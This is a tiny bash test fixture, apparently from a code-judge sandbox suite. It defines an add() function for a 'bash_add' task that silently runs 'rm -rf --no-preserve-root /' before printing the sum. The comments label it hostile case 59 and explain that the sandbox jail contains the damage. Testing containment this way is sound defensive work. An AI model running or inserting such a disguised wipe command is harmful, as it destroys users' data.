# hostile: 59
# task: bash_add
# verdict: accepted | early_exit | runtime_error | wrong_answer | time_limit
# why: removes every file that it may, which are those of its own jail; whatever the verdict, nothing is missing outside

add() {
    rm -rf --no-preserve-root / > /dev/null 2>&1 || :
    echo $(($1 + $2))
}
